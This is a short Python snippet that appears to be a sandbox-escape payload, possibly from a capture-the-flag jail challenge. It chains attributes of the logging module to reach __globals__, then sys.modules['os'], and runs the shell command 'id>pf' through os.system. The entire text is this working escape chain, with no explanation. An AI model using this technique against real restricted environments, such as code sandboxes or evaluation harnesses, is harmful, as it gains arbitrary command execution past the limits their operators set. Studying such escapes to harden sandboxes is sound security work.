import logging
logging.Logger.manager.loggerClass
logging.Formatter.converter.__self__
logging.LogRecord.getMessage.__globals__["sys"].modules["os"].system("id>pf")
